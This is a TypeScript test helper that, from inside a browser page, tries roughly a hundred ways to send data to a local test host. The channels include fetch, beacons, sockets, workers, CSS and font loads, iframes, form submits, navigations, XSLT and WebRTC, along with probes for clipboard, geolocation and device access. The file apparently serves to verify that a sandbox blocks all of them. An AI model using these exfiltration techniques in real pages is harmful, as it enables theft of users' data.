/**
 * Runs in the page, as if an attacker had found a way to run script there, and tries every way out that a browser
 * has. Answers how many were tried. Self-contained: the driver sends its source to the page.
 */
export async function attacksFromWithin(target: {
  readonly http: string;
  readonly udp: number;
}): Promise<number> {
  const { http, udp } = target;
  let count = 0;
  const next = (): string => `${http}/attack-${++count}`;
  const attempt = async (attack: () => unknown): Promise<void> => {
    try {
      await Promise.race([attack(), new Promise((resolve) => setTimeout(resolve, 60))]);
    } catch {
      // refused, which is what is hoped for; the host tells whether anything got out
    }
  };
  const element = (tag: string, fields: Record<string, string>): HTMLElement => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(fields)) {
      try {
        made.setAttribute(name, value);
      } catch {
        // trusted types refuse some attributes
      }
    }
    document.body.append(made);
    return made;
  };
  const svg = (tag: string, address: string): void => {
    const root = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const part = document.createElementNS('http://www.w3.org/2000/svg', tag);
    part.setAttribute('href', address);
    root.append(part);
    document.body.append(root);
  };
  const style = (text: string): void => {
    const sheet = document.createElement('style');
    sheet.textContent = text;
    document.head.append(sheet);
    const constructed = new CSSStyleSheet();
    constructed.replaceSync(text.replace(/@import[^;]+;/g, ''));
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, constructed];
  };
  const attacks: (() => unknown)[] = [
    () => fetch(next()),
    () => fetch(next(), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'words' }),
    () => navigator.sendBeacon(next(), 'words'),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', next());
      request.send();
    },
    () => new WebSocket(next().replace('http', 'ws')),
    () => new EventSource(next()),
    () => new WebTransport(next().replace('http', 'https')).ready,
    () => import(/* @vite-ignore */ next()),
    () => new Worker(next()),
    () => new SharedWorker(next()),
    () => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(next())})`]))),
    () => navigator.serviceWorker.register(next()),
    () => (new Image().src = next()),
    () => element('img', { src: next(), srcset: `${next()} 2x` }),
    () => element('video', { src: next(), poster: next(), autoplay: '' }),
    () => element('audio', { src: next(), autoplay: '' }),
    () => element('iframe', { src: next() }),
    () => element('iframe', { srcdoc: `<img src="${next()}">` }),
    () => element('iframe', { src: `data:text/html,<img src='${next()}'>` }),
    () => element('object', { data: next() }),
    () => element('embed', { src: next() }),
    () => element('script', { src: next() }),
    () => element('input', { type: 'image', src: next() }),
    () => element('track', { src: next() }),
    () => element('webview', { src: next() }),
    ...[
      'stylesheet',
      'preload',
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'modulepreload',
      'prerender',
      'icon',
      'manifest',
      'import',
    ].map((rel) => () => element('link', { rel, href: next(), as: 'image' })),
    () => element('meta', { 'http-equiv': 'refresh', content: `0; url=${next()}` }),
    () => element('base', { href: `${next()}/` }),
    () => svg('image', next()),
    () => svg('use', `${next()}#x`),
    () => svg('feImage', next()),
    () => style(`@import url(${next()}); body { background: url(${next()}); cursor: url(${next()}), auto }`),
    () => style(`@font-face { font-family: leak; src: url(${next()}) } * { font-family: leak }`),
    () => (document.body.style.backgroundImage = `url(${next()})`),
    () => (document.body.style.listStyle = `url(${next()})`),
    () => new FontFace('leak', `url(${next()})`).load(),
    () => window.open(next()),
    () => window.open(next(), '_self'),
    () => window.open(`data:text/html,<img src='${next()}'>`),
    () => {
      const anchor = element('a', { href: next(), ping: next(), target: '_blank' });
      anchor.click();
      anchor.setAttribute('target', '_self');
      anchor.click();
      anchor.setAttribute('download', 'words.txt');
      anchor.click();
    },
    () => {
      const form = element('form', { action: next(), method: 'post' }) as HTMLFormElement;
      form.append(document.createElement('input'));
      form.submit();
      form.target = '_blank';
      form.requestSubmit();
    },
    () => (location.href = next()),
    () => location.assign(next()),
    () => location.replace(next()),
    () => (location.href = 'file:///etc/passwd'),
    () => history.pushState(null, '', next()),
    () => document.write(`<img src="${next()}">`),
    () => (document.body.innerHTML += `<img src="${next()}">`),
    () => document.body.insertAdjacentHTML('beforeend', `<img src="${next()}">`),
    () => new DOMParser().parseFromString(`<img src="${next()}">`, 'text/html'),
    () =>
      (
        Reflect.construct(
          Reflect.get(globalThis, 'Function') as unknown as new (source: string) => () => unknown,
          [`fetch('${next()}')`],
        ) as () => unknown
      )(),
    ...[
      'compression-dictionary',
      'search',
      'pingback',
      'apple-touch-icon',
      'mask-icon',
      'alternate stylesheet',
      'preload stylesheet',
      'expect',
    ].map((rel) => () => element('link', { rel, href: next(), as: 'fetch', blocking: 'render' })),
    ...['prefetch', 'prerender'].map((kind) => () => {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      const list = [{ source: 'list', urls: [next()], eagerness: 'immediate' }];
      // the text of a script is guarded by trusted types; the document's own parser is not asked
      rules.append(JSON.stringify({ [kind]: list }));
      document.head.append(rules);
    }),
    () => element('img', { src: 'x', attributionsrc: next() }),
    () => element('a', { href: '#', attributionsrc: next() }).click(),
    () => element('iframe', { src: next(), credentialless: '' }),
    () => element('iframe', { src: 'about:blank', csp: `report-uri ${next()}` }),
    () => element('iframe', { src: `javascript:fetch('${next()}')` }),
    () => element('fencedframe', { src: next() }),
    () => element('portal', { src: next() }),
    () => element('link', { rel: 'preload', as: 'image', imagesrcset: `${next()} 1x` }),
    () => element('meta', { 'http-equiv': 'Content-Security-Policy', content: `report-uri ${next()}` }),
    () => style(`p { background: image-set(url(${next()}) 1x); mask: url(${next()}#m) }`),
    () => style(`@media print { body { background: url(${next()}) } } @page { background: url(${next()}) }`),
    () => style(`@property --u { syntax: '<url>'; inherits: true; initial-value: url(${next()}) }`),
    () => style(`@import url(${next()}) layer(x) supports(display: grid);`),
    () => document.body.setAttribute('style', `content: url(${next()}); offset-path: url(${next()}#p)`),
    () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inner = frame.contentWindow as (Window & typeof globalThis) | null;
      void inner?.fetch(next());
      inner?.navigator.sendBeacon(next(), 'words');
      if (inner) new inner.Image().src = next();
      if (inner) inner.location.href = next();
    },
    ...[
      'fetchLater',
      'WebSocketStream',
      'PresentationRequest',
      'SharedStorage',
      'TCPSocket',
      'UDPSocket',
      'Fence',
    ].map((name) => () => {
      const found = Reflect.get(globalThis, name) as unknown;
      if (typeof found !== 'function') return ++count;
      try {
        return Reflect.apply(found, globalThis, [next()]) as unknown;
      } catch {
        return Reflect.construct(found as new (address: string) => unknown, [
          next().replace('http', 'ws'),
        ]) as unknown;
      }
    }),
    () => (Reflect.get(globalThis, 'navigation') as { navigate(url: string): unknown }).navigate(next()),
    () =>
      Reflect.apply(Reflect.get(document.body, 'setHTMLUnsafe') as () => void, document.body, [
        `<img src="${next()}">`,
      ] as never),
    () => {
      const parse = Reflect.get(Document, 'parseHTMLUnsafe') as (html: string) => Document;
      document.body.append(
        ...parse(`<img src="${next()}"><link rel="stylesheet" href="${next()}">`).body.children,
      );
    },
    () => document.body.append(document.createRange().createContextualFragment(`<img src="${next()}">`)),
    () => {
      const page = new DOMParser().parseFromString(
        `<svg xmlns="http://www.w3.org/2000/svg"><image href="${next()}"/></svg>`,
        'image/svg+xml',
      );
      document.body.append(page.documentElement);
    },
    () => {
      const sheet = new DOMParser().parseFromString(
        `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${next()}"/><xsl:template match="/"><xsl:copy-of select="document('${next()}')"/></xsl:template></xsl:stylesheet>`,
        'text/xml',
      );
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      processor.transformToFragment(document, document);
    },
    () => (Reflect.get(CSS, 'paintWorklet') as Worklet).addModule(next()),
    () => new OfflineAudioContext(1, 1, 8_000).audioWorklet.addModule(next()),
    () =>
      navigator.credentials.get({ identity: { providers: [{ configURL: next(), clientId: 'x' }] } } as never),
    () => navigator.registerProtocolHandler('web+leak', `${next()}/%s`),
    () =>
      (Reflect.get(navigator, 'joinAdInterestGroup') as (group: object) => unknown)({
        owner: next(),
        name: 'x',
      }),
    () => window.open(`app://other/${next()}`),
    () => location.assign(URL.createObjectURL(new Blob([`<img src="${next()}">`], { type: 'text/html' }))),
    () => location.assign('mailto:leak@leak.example?body=words'),
    () => location.assign('ms-settings:privacy'),
    () => navigator.clipboard.readText(),
    () => navigator.geolocation.getCurrentPosition(() => undefined),
    () => (Reflect.get(globalThis, 'showOpenFilePicker') as () => unknown)(),
    () => (Reflect.get(globalThis, 'queryLocalFonts') as () => unknown)(),
    ...['bluetooth', 'usb', 'hid', 'serial'].map((device) => () => {
      const found = Reflect.get(navigator, device) as { requestDevice?(wish: object): unknown } | undefined;
      return found?.requestDevice?.({ filters: [], acceptAllDevices: true });
    }),
    () => caches.open('leak').then((cache) => cache.add(next())),
    () => new Notification('words', { icon: next() }),
    () => navigator.share({ url: next() }),
    () => navigator.mediaDevices.getUserMedia({ audio: true }),
    () => new PerformanceObserver(() => undefined).observe({ type: 'resource' }),
    () =>
      new PaymentRequest([{ supportedMethods: next() }], {
        total: { label: 'x', amount: { currency: 'USD', value: '1' } },
      }).show(),
    async () => {
      count++;
      const urls = [
        `stun:127.0.0.1:${udp}`,
        `turn:127.0.0.1:${udp}?transport=udp`,
        `turn:127.0.0.1:${new URL(http).port}?transport=tcp`,
      ];
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] });
      peer.createDataChannel('words');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 800));
      peer.close();
    },
  ];
  for (const attack of attacks) await attempt(attack);
  await new Promise((resolve) => setTimeout(resolve, 1200));
  return count;
}
